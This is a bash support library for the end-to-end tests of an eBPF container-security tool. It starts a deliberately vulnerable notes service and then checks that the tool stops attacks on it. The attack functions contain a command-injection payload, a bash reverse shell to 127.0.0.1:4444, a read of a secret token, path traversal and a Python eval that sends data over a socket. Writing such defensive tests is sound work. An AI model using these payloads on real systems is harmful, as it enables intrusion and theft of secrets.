# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# What the demo and the end-to-end tests share: a work directory and a cgroup of their own, the
# notes service in a container, its load and its attacks, recording and guarding it. Sourced by
# scripts that run as root with `set -euo pipefail`. Everything that stage_begin and the functions
# after it start is ended by stage_end, which also runs on exit and on a signal.

root=$(cd "$(dirname "${BASH_SOURCE[0]}")/../.." && pwd)
bin=$root/build/bin
e2e=$root/tests/e2e
programs=$root/build/tests/e2e
# shellcheck source=tests/support/load.bash
. "$root/tests/support/load.bash"
cgroot=$(awk '$3 == "cgroup2" { print $2; exit }' /proc/self/mounts)
stage=''       # work directory
demo_dir=$root/build/demo-policy # recordings and policy of the demo, for tests
service=notes  # the container's name, and of its image: demo/notes
cgroup=''      # the stage's cgroup, a path below $cgroot
declare -A children # processes to end
patience=${LUTRA_E2E_PATIENCE:-60} # seconds to wait for something that should come at once

say() {
	printf '%s\n' "$*"
}

fail() {
	printf '%s: %s\n' "${0##*/}" "$*" >&2
	exit 1
}

skip() {
	printf '%s: %s\n' "${0##*/}" "$*" >&2
	exit 77
}

# Run a command so that a signal to this script is handled at once, not after the command.
run() {
	local r=0 pid
	"$@" &
	pid=$!
	children[$pid]=1
	wait "$pid" || r=$?
	unset "children[$pid]"
	return "$r"
}

# until_true SECONDS COMMAND…: seconds of an idle machine.
until_true() {
	local until_left_ms=$(($1 * 1000)) until_last=$SECONDS
	shift
	until "$@"; do
		[ "$until_left_ms" -gt 0 ] || return 1
		sleep 0.05
		[ "$SECONDS" != "$until_last" ] || continue
		share_of_processor
		until_left_ms=$((until_left_ms - (SECONDS - until_last) * processor_share))
		until_last=$SECONDS
	done
}

alive() {
	grep -qs '^State:[[:space:]]*[RSDTtI]' "/proc/$1/status"
}

dead() {
	! alive "$1"
}

# is_child PID: it runs, and it is a child of this subshell or of the script. The number of a child that ended is
# soon another process's.
is_child() {
	awk -v parents=" $$ $BASHPID " '/^State:/ { runs = $2 ~ /[RSDTtI]/ }
		/^PPid:/ { is_ours = index(parents, " " $2 " ") } END { exit !(runs && is_ours) }' "/proc/$1/status" 2>/dev/null
}

# end PID: TERM, and KILL if that does not help in time. Other processes than children are left alone.
end() {
	if is_child "$1"; then
		kill -TERM "$1" 2>/dev/null || true
		until_true "$patience" not is_child "$1" || kill -KILL "$1" 2>/dev/null || true
	fi
	wait "$1" 2>/dev/null || true
	unset "children[$1]"
}

end_children() {
	local pid
	for pid in "${!children[@]}"; do
		end "$pid"
	done
}

# at_end COMMAND: at the script's end, also by a signal.
at_end() {
	# shellcheck disable=SC2064
	trap "$1" EXIT
	trap 'exit 130' INT
	trap 'exit 143' TERM HUP
}

# ---- the stage ----

stage_begin() {
	[ "$(id -u)" = 0 ] || skip "needs root: it makes cgroups, containers and loads BPF programs"
	[ -n "$cgroot" ] || skip "no cgroup v2 is mounted here"
	[ -x "$bin/lutra" ] || fail "no build/bin/lutra: run make first"
	stage=$1
	cgroup=/lutra-$(basename "$stage")-$$
	rm -rf "$stage"
	mkdir -p "$stage"
	export LUTRA_STAGE=$cgroup
	before_pins=$(pins)
	before_mounts=$(mounts)
	at_end stage_end
	mkdir "$cgroot$cgroup"
}

# stage_end [STATUS]
stage_end() {
	local r=${1:-$?}
	trap '' INT TERM HUP
	trap - EXIT
	end_children
	"$e2e/container" stop "$stage/$service" || true
	stage_remove_cgroup
	stage_left_over || r=1
	exit "$r"
}

stage_remove_cgroup() {
	local d
	[ ! -d "$cgroot$cgroup" ] || until_true 5 unpopulated || echo 1 >"$cgroot$cgroup/cgroup.kill"
	find "$cgroot$cgroup" -depth -type d 2>/dev/null | while read -r d; do
		until_true "$patience" rmdir "$d" 2>/dev/null || true
	done
}

unpopulated() {
	grep -qs '^populated 0' "$cgroot$cgroup/cgroup.events"
}

# What a daemon pins by default. Tests that pin do it elsewhere, and other tests run meanwhile.
pins() {
	find /sys/fs/bpf/lutra 2>/dev/null | sort || true
}

# Where a stage could leave one. Elsewhere they are the host's, which others use meanwhile.
mounts() {
	awk -v root="$root/" -v stage="${stage:-$root}/" '
		index($2, root) == 1 || index($2, stage) == 1 || index($2, "/sys/fs/cgroup") == 1 { print $2 }' \
		/proc/self/mounts | sort
}

# Processes that the stage started, by the variable it exported, or by its cgroup.
processes() {
	local p
	for p in /proc/[0-9]*; do
		case ${p#/proc/} in
		"$$" | "$BASHPID") continue ;;
		esac
		if grep -qs "^0::$cgroup\(/\|$\)" "$p/cgroup" ||
			grep -qszxF "LUTRA_STAGE=$cgroup" "$p/environ"; then
			alive "${p#/proc/}" && [ "$(awk '/^PPid/ { print $2 }' "$p/status" 2>/dev/null)" != $$ ] &&
				echo "${p#/proc/} $(cat "$p/comm" 2>/dev/null)"
		fi
	done
	return 0
}

# Nothing may be left of the stage but its files. BPF programs belong to processes: none is pinned.
stage_left_over() {
	local left='' what
	[ ! -d "$cgroot$cgroup" ] || left+="cgroup $cgroup; "
	what=$(comm -13 <(echo "$before_pins") <(pins))
	[ -z "$what" ] || left+="pins $what; "
	what=$(comm -13 <(echo "$before_mounts") <(mounts))
	[ -z "$what" ] || left+="mounts $what; "
	what=$(processes)
	[ -z "$what" ] || left+="processes $what; "
	[ -z "$left" ] || { echo "${0##*/}: left behind: $left" >&2 && return 1; }
}

# ---- the service ----

# need_programs NAME…: of build/tests/e2e, which the makefile builds for its own targets.
need_programs() {
	local name missing=()
	for name; do
		[ -x "$programs/$name" ] || missing+=("build/tests/e2e/$name")
	done
	[ ${#missing[@]} = 0 ] || fail "no ${missing[*]}: run \`make ${missing[*]}\` first"
}

# service_start [CAPABILITY…]
service_start() {
	[ -n "${CONFIG:-}" ] || need_programs load listen
	"$e2e/container" start "$stage/$service" "$cgroup" "$@"
	service_pid=$("$e2e/container" pid "$stage/$service")
}

service_stop() {
	"$e2e/container" stop "$stage/$service"
}

# In the service's network, not in its cgroup. load SEED REQUESTS THREADS
load() {
	run nsenter -t "$service_pid" -n "$programs/load" -w "$patience" -s "$1" -n "$2" -c "$3"
}

# ask PATH: a GET as it stands, prints the whole answer; the service may die over it.
ask() {
	# shellcheck disable=SC2016
	nsenter -t "$service_pid" -n timeout 30 bash -c \
		'exec 3<>/dev/tcp/127.0.0.1/8080 && printf "GET %s HTTP/1.0\r\n\r\n" "$0" >&3 && cat <&3' \
		"$1" 2>/dev/null || true
}

quote() {
	local s=$1 i c
	for ((i = 0; i < ${#s}; i++)); do
		c=${s:i:1}
		case $c in
		[A-Za-z0-9._-]) printf '%s' "$c" ;;
		*) printf '%%%02X' "'$c" ;;
		esac
	done
}

serves() {
	ask /healthz | grep -q '^ok'
}

# ---- the attacks: each prints what it got; 0 if it reached its goal ----

inject() {
	ask "/lookup?host=$(quote "localhost;$1")"
}

attack_shell() {
	inject 'bash -c "id -u; uname -n"' | tee "$stage/answer" | grep -qx notes
}

attack_secret() {
	# shellcheck disable=SC2016
	inject 'read t </run/secrets/token; echo "$t"' | tee "$stage/answer" | grep -q ^token-of
}

# listener_start: on port 4444 of the service's loopback, answers in $stage/listen.
listener_start() {
	: >"$stage/listen"
	# shellcheck disable=SC2016
	nsenter -t "$service_pid" -n "$programs/listen" 4444 "$patience" 'echo I am $(id -un)' >"$stage/listen" &
	listener=$!
	children[$listener]=1
	until_true "$patience" grep -q listening "$stage/listen"
}

attack_reverse_shell() {
	listener_start
	inject 'bash -c "exec bash -i >&/dev/tcp/127.0.0.1/4444 0>&1"' >"$stage/answer"
	end "$listener"
	grep -q connected "$stage/listen"
}

# The next three by the service's own process: no program is started.

attack_traversal() {
	ask "/static/$(quote ../../../run/secrets/token)" | tee "$stage/answer" | grep -q ^token-of
}

attack_connect() {
	listener_start
	evaluate '__import__("socket").create_connection(("127.0.0.1", 4444), 5).send(b"stolen\n")' \
		>"$stage/answer"
	end "$listener"
	grep -q stolen "$stage/listen"
}

# Needs CAP_SYS_ADMIN to succeed at all.
attack_mount() {
	evaluate 'libc.mount(b"none", b"/mnt", b"tmpfs", 0, None), errno()' | tee "$stage/answer" |
		grep -q '^(0, '
}

evaluate() {
	ask "/calc?expr=$(quote "$1")"
}

# Whether the last attack was told EPERM.
told_eperm() {
	grep -qE '^\(-1, 1\)|Operation not permitted' "$stage/answer" ||
		{ cat "$stage/answer" >&2 && return 1; }
}

# ---- recording and guarding ----

# record_start FILE: from before the container's start.
record_start() {
	: >"$stage/record.log" # what the last recorder said is not this one's word
	"$bin/lutra" record --cgroup "$cgroot$cgroup" --image "demo/$service" -o "$1" >>"$stage/record.log" 2>&1 &
	recorder=$!
	children[$recorder]=1
	until_true "$patience" recording_or_dead
	alive "$recorder" || fail "lutra record: $(tail -n 1 "$stage/record.log")"
}

recording_or_dead() {
	grep -q recording "$stage/record.log" || dead "$recorder"
}

record_stop() {
	end "$recorder"
}

# record_run FILE SEED REQUESTS THREADS [CAPABILITY…]: one start-to-stop of the service.
record_run() {
	local file=$1 seed=$2 requests=$3 threads=$4
	shift 4
	record_start "$file"
	service_start "$@"
	load "$seed" $((requests * 2 / 3)) "$threads" >"$stage/load.log"
	sleep 1.2 # a service has idle times too
	load "$((seed + 5000))" $((requests / 3)) "$threads" >>"$stage/load.log"
	service_stop
	record_stop
}

# The last run in a few words: "6000 requests, 0 wrong answers, FILE: 856226 events recorded, 0 lost".
recorded() {
	awk '{ requests += $1; wrong += $3 } END { printf "%d requests, %d wrong answers; ", requests, wrong }' \
		"$stage/load.log"
	tail -n 1 "$stage/record.log" | sed "s,^lutra: .*/,,"
}

# daemon_start: lutrad with everything below the stage. The door, if it is on, holds in the stage's cgroup alone.
daemon_start() {
	mkdir -p "$stage/policies"
	cat >"$stage/config.json" <<-JSON
	{
	  "socket": "$stage/lutrad.sock",
	  "state_dir": "$stage",
	  "policies_dir": "$stage/policies",
	  "events_jsonl": "$stage/events.jsonl",
	  "calls": "${calls:-on}",
	  "http": ${http:-null},
	  "outputs": [${outputs:-}],
	  "engines": [${engines:-}],
	  "bundles": [${bundles:-}],
	  "life": ${life:-null},
	  "log_level": "${log_level:-info}",
	  "door": "${door:-off}",
	  "door_cgroup": "$cgroot$cgroup",
	  "pin_dir": ${pin_dir:-null}
	}
	JSON
	"$bin/lutrad" --config "$stage/config.json" >"$stage/lutrad.log" 2>&1 &
	daemon=$!
	children[$daemon]=1
	until_true "$patience" daemon_answers_or_dead
	alive "$daemon" || fail "lutrad: $(tail -n 1 "$stage/lutrad.log")"
}

daemon_answers_or_dead() {
	dead "$daemon" || ctl status >/dev/null 2>&1
}

daemon_stop() {
	end "$daemon"
}

# ctl COMMAND…: a command of lutra to that daemon.
ctl() {
	local cmd=$1
	shift
	"$bin/lutra" "$cmd" --config "$stage/config.json" "$@"
}

# enroll POLICY MODE: the stage's cgroup, and with it the container in it; forced, as policies of runs as
# short as a test's are not made to enforce.
enroll() {
	ctl enroll --cgroup "$cgroot$cgroup" --policy "$1" --mode "$2" --force >/dev/null
}

release() {
	ctl release --cgroup "$cgroot$cgroup" >/dev/null
}

# What was decided, newest last, as JSON lines: all but what is only recorded.
events() {
	ctl events --limit 1000 --json | jq -c '.output_fields | select(."lutra.verdict" != "allow")'
}

# counter NAME: of the container, as the kernel has it.
counter() {
	ctl status --json | jq ".containers[0].counters.$1"
}

# Signals so far that were more than recorded.
fired() {
	echo $(($(counter alert) + $(counter deny) + $(counter kill)))
}

all_told() {
	[ "$(events | wc -l)" -ge "$(fired)" ]
}

# no_refusals POLICY [FIRED]: no rule that denies has spoken, and nothing was killed, since that many
# signals. That a level or another rule alerts is within what a policy of a few short runs says to
# expect: it is shown.
no_refusals() {
	local since denied
	until_true "$patience" all_told || return 1
	since=$(events | tail -n "+$((${2:-0} + 1))")
	denied=$(jq -c --slurpfile policy "$1/policy.json" 'select(."lutra.verdict" == "kill" or
		$policy[0].rules.actions[."lutra.group"] == "deny")' <<<"$since")
	[ -z "$denied" ] || { echo "$denied" >&2 && return 1; }
	jq -r '"\(."lutra.group") in \(."evt.type") \(."lutra.object" // "")"' <<<"$since" | sort | uniq -c |
		sed 's/^ */# alert: /'
}

# set_actions POLICY RULES ACTION: these rules of it, a pattern, have that action.
set_actions() {
	jq --arg rules "^($2)\$" --arg action "$3" \
		'.rules.actions |= with_entries(if .key | test($rules) then .value = $action else . end)' \
		"$1/policy.json" >"$1.edited"
	mv "$1.edited" "$1/policy.json"
}

# rules_alone POLICY TO: a copy whose level is only recorded. What it says under benign load is
# within what a policy of a few short runs says to expect, and refuses or kills: no test of the rules.
rules_alone() {
	rm -rf "$2"
	cp -r "$1" "$2"
	set_actions "$2" 'M|N' log
}

# deny where a hook can refuse, else kill. Sets mode.
choose_mode() {
	if "$bin/lutra" doctor --json | jq -e '.lsm' >/dev/null; then
		mode='deny'
	else
		mode='kill'
	fi
}

# Of events, those that stopped something.
stopping() {
	jq -c 'select(."lutra.refused" or ."lutra.verdict" == "kill")'
}

more_stopped() {
	[ "$(events | stopping | wc -l)" -gt "$1" ]
}

# stopped NAME: the attack misses its goal, and there is evidence of what stopped it.
stopped() {
	known=$(events | stopping | wc -l)
	! "attack_$1" >/dev/null && until_true "$patience" more_stopped "$known"
}

# The policy of the demo, which demo_test leaves, or that of a new one; prints its directory. Made by one at a time.
demo_policy() {
	local dir=$demo_dir lock
	mkdir -p "$dir"
	exec {lock}>"$dir.lock"
	flock "$lock"
	# In a command substitution `set -e` does not hold: what was not recorded is not trained on.
	if [ ! -d "$dir/policy" ]; then
		rm -f "$dir"/*.ltr
		"$e2e/rootfs" >&2 || return
		TMPDIR=$dir "$e2e/demo/demo" record "$dir" >&2 {lock}>&- || return
		"$e2e/demo/demo" train "$dir" >&2 {lock}>&- || return
	fi
	exec {lock}>&-
	echo "$dir/policy"
}

# demo_policy_from DIR: from now on this demo's, if the one there is older than the trainer: a test beside
# may be reading it.
demo_policy_from() {
	local lock
	mkdir -p "$demo_dir"
	exec {lock}>"$demo_dir.lock"
	flock "$lock"
	if [ ! "$demo_dir/policy/policy.json" -nt "$bin/lutra-train" ]; then
		rm -rf "$demo_dir/new"
		cp -r "$1/policy" "$demo_dir/new"
		cp "$1"/run*.ltr "$demo_dir"
		rm -rf "$demo_dir/policy"
		mv "$demo_dir/new" "$demo_dir/policy"
	fi
	exec {lock}>&-
}

# ---- tests, one TAP line each ----

tests=0
broken=0

# ok NAME COMMAND…: the command's success.
ok() {
	local name=$1
	shift
	tests=$((tests + 1))
	if "$@"; then
		echo "ok $tests - $name"
	else
		broken=$((broken + 1))
		echo "not ok $tests - $name"
	fi
}

not() {
	! "$@"
}

# Ends a test program.
plan() {
	echo "1..$tests"
	[ "$broken" = 0 ] || exit 1
}
